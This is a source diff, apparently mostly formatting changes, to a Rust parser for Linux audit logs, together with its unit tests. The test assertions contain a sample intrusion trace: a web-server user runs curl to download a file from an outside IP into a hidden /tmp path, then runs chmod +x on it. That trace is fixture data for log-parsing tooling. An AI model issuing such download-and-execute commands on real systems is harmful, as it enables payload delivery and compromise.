@@ -49,7 +49,8 @@ const SYSCALL_FIRST: [&str; 10] = [
 /// `msg=audit(`.
 pub fn looks_like(head: &[u8]) -> bool {
     textlog::most_lines(head, 5, |l| {
-        memchr::memmem::find(l, b"type=").is_some() && memchr::memmem::find(l, b"msg=audit(").is_some()
+        memchr::memmem::find(l, b"type=").is_some()
+            && memchr::memmem::find(l, b"msg=audit(").is_some()
     })
 }
 
@@ -88,7 +89,10 @@ impl EventKey {
     }
 
     fn time(self) -> Option<Timestamp> {
-        let micros = self.secs.checked_mul(1_000_000)?.checked_add(i64::from(self.micros))?;
+        let micros = self
+            .secs
+            .checked_mul(1_000_000)?
+            .checked_add(i64::from(self.micros))?;
         Some(Timestamp::from_unix_micros(micros))
     }
 
@@ -159,8 +163,16 @@ impl Record {
     }
 
     fn size(&self) -> usize {
-        let pairs: usize = self.pairs.iter().map(|(k, v, _)| k.len() + v.len() + 16).sum();
-        let en: usize = self.enriched.iter().map(|(k, v)| k.len() + v.len() + 16).sum();
+        let pairs: usize = self
+            .pairs
+            .iter()
+            .map(|(k, v, _)| k.len() + v.len() + 16)
+            .sum();
+        let en: usize = self
+            .enriched
+            .iter()
+            .map(|(k, v)| k.len() + v.len() + 16)
+            .sum();
         self.kind.len() + pairs + en + 64
     }
 }
@@ -199,7 +211,11 @@ fn split_pairs(s: &str) -> Vec<(&str, &str, Quote)> {
             Some(&q @ (b'"' | b'\'')) => {
                 let body = &after[1..];
                 let end = body.find(q as char).unwrap_or(body.len());
-                let quote = if q == b'"' { Quote::Double } else { Quote::Single };
+                let quote = if q == b'"' {
+                    Quote::Double
+                } else {
+                    Quote::Single
+                };
                 (&body[..end], quote, body.get(end + 1..).unwrap_or(""))
             }
             _ => {
@@ -218,7 +234,7 @@ fn split_pairs(s: &str) -> Vec<(&str, &str, Quote)> {
 /// The bytes of an even-length, non-empty hex string.
 fn decode_hex(s: &str) -> Option<Vec<u8>> {
     let b = s.as_bytes();
-    if b.is_empty() || b.len() % 2 != 0 {
+    if b.is_empty() || b.len() & 1 == 1 {
         return None;
     }
     let nib = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
@@ -300,7 +316,11 @@ impl FirstWins {
 impl Pending {
     fn into_fields(self) -> Fields {
         let mut f = FirstWins::default();
-        let types = self.records.iter().map(|r| Value::from(r.kind.as_str())).collect();
+        let types = self
+            .records
+            .iter()
+            .map(|r| Value::from(r.kind.as_str()))
+            .collect();
         f.set("type", Value::List(types));
         for rec in self.records.iter().filter(|r| r.kind == "SYSCALL") {
             for (k, v, q) in &rec.pairs {
@@ -315,7 +335,9 @@ impl Pending {
                 if k == "argc" {
                     f.set(k, v.as_str());
                 } else if let Some((n, _)) = arg_number(k) {
-                    args.entry(n).or_default().push_str(&decoded(&rec.kind, k, v, *q));
+                    args.entry(n)
+                        .or_default()
+                        .push_str(&decoded(&rec.kind, k, v, *q));
                 }
             }
         }
@@ -366,7 +388,10 @@ impl Pending {
         if let Some(n) = node {
             fields.insert("Hostname", n);
         }
-        fields.insert("serial", Value::Int(i64::try_from(self.key.serial).unwrap_or(i64::MAX)));
+        fields.insert(
+            "serial",
+            Value::Int(i64::try_from(self.key.serial).unwrap_or(i64::MAX)),
+        );
         fields
     }
 }
@@ -416,7 +441,10 @@ impl LineParser for AuditParser {
             return ControlFlow::Continue(());
         }
         let Some((key, record)) = Record::parse(&text) else {
-            return out.error(no, "not an audit record (no type= and msg=audit(SECS.MS:SERIAL))");
+            return out.error(
+                no,
+                "not an audit record (no type= and msg=audit(SECS.MS:SERIAL))",
+            );
         };
         if let Some(i) = self.pending.iter().position(|p| p.key == key) {
             if record.kind == "EOE" {
@@ -448,7 +476,9 @@ impl LineParser for AuditParser {
                 bytes,
             });
         }
-        while self.pending.len() > MAX_PENDING || (self.pending_bytes > MAX_PENDING_BYTES && self.pending.len() > 1) {
+        while self.pending.len() > MAX_PENDING
+            || (self.pending_bytes > MAX_PENDING_BYTES && self.pending.len() > 1)
+        {
             self.emit(out, 0)?;
         }
         ControlFlow::Continue(())
@@ -531,11 +561,23 @@ mod tests {
         let curl = &ev[0].fields;
         assert_eq!(ev[0].source.line, Some(1));
         assert_eq!(curl.get("serial"), Some(&Value::Int(4600)));
-        assert_eq!(curl.text("type").as_deref(), Some("SYSCALL EXECVE CWD PATH PROCTITLE"));
+        assert_eq!(
+            curl.text("type").as_deref(),
+            Some("SYSCALL EXECVE CWD PATH PROCTITLE")
+        );
         assert_eq!(curl.text("a3").as_deref(), Some("http://203.0.113.9/a b"));
-        assert_eq!(curl.text("CommandLine").as_deref(), Some("curl -o /tmp/.x http://203.0.113.9/a b"));
-        assert_eq!(curl.text("proctitle").as_deref(), Some("curl -o /tmp/.x http://203.0.113.9/a b"));
-        assert_eq!(curl.text("CurrentDirectory").as_deref(), Some("/var/www/my site"));
+        assert_eq!(
+            curl.text("CommandLine").as_deref(),
+            Some("curl -o /tmp/.x http://203.0.113.9/a b")
+        );
+        assert_eq!(
+            curl.text("proctitle").as_deref(),
+            Some("curl -o /tmp/.x http://203.0.113.9/a b")
+        );
+        assert_eq!(
+            curl.text("CurrentDirectory").as_deref(),
+            Some("/var/www/my site")
+        );
         assert_eq!(curl.text("User").as_deref(), Some("33"));
         assert_eq!(curl.text("Hostname").as_deref(), Some("web01"));
         assert_eq!(curl.text("ParentProcessId").as_deref(), Some("812"));
@@ -548,7 +590,10 @@ mod tests {
         assert_eq!(cron.text("pid").as_deref(), Some("31400"));
         let chmod = &ev[2].fields;
         assert_eq!(ev[2].source.line, Some(8));
-        assert_eq!(chmod.text("CommandLine").as_deref(), Some("chmod +x /tmp/.x"));
+        assert_eq!(
+            chmod.text("CommandLine").as_deref(),
+            Some("chmod +x /tmp/.x")
+        );
         assert_eq!(chmod.text("a0").as_deref(), Some("1"));
     }
 
@@ -617,17 +662,29 @@ type=EXECVE msg=audit(1.000:7): argc=2 a0=\"x\" a1_len=6 a1[0]=616263 a1[1]=\"de
         assert!(max_pending <= MAX_PENDING, "{max_pending}");
         let errs = errors(&items);
         assert_eq!(errs.len(), 1);
-        assert_eq!(errs[0].message, "audit event 1: 5 records beyond 64 dropped");
+        assert_eq!(
+            errs[0].message,
+            "audit event 1: 5 records beyond 64 dropped"
+        );
         assert_eq!(events(&items).len(), 3001);
     }
 
     #[test]
     fn long_invalid_truncated_and_empty_input() {
         let mut data = b"type=SYSCALL msg=audit(10.000:1): exe=\"/bin/a\"\n".to_vec();
-        data.extend_from_slice(format!("type=PATH msg=audit(10.000:1): name=\"{}\"\n", "y".repeat(400)).as_bytes());
+        data.extend_from_slice(
+            format!(
+                "type=PATH msg=audit(10.000:1): name=\"{}\"\n",
+                "y".repeat(400)
+            )
+            .as_bytes(),
+        );
         data.extend_from_slice(b"not audit\n");
         data.extend_from_slice(b"type=SYSCALL msg=audit(10.000:2): exe=\"/bin/\xff\"");
-        let opts = ReadOptions { max_line: 100, ..ReadOptions::default() };
+        let opts = ReadOptions {
+            max_line: 100,
+            ..ReadOptions::default()
+        };
         let (items, stats) = read_all(&data, &opts);
         assert_eq!((stats.events, stats.errors), (2, 2));
         assert_eq!(stats.bytes, data.len() as u64);
@@ -646,8 +703,12 @@ type=EXECVE msg=audit(1.000:7): argc=2 a0=\"x\" a1_len=6 a1[0]=616263 a1[1]=\"de
 
     #[test]
     fn sniffing() {
-        assert!(looks_like(b"type=DAEMON_START msg=audit(1700000000.000:1): op=start\n"));
-        assert!(looks_like(b"node=a type=SYSCALL msg=audit(1.2:3): pid=1\nnode=a type=EOE msg=audit(1.2:3): \n"));
+        assert!(looks_like(
+            b"type=DAEMON_START msg=audit(1700000000.000:1): op=start\n"
+        ));
+        assert!(looks_like(
+            b"node=a type=SYSCALL msg=audit(1.2:3): pid=1\nnode=a type=EOE msg=audit(1.2:3): \n"
+        ));
         assert!(!looks_like(b"#Fields: date\n"));
     }
 }
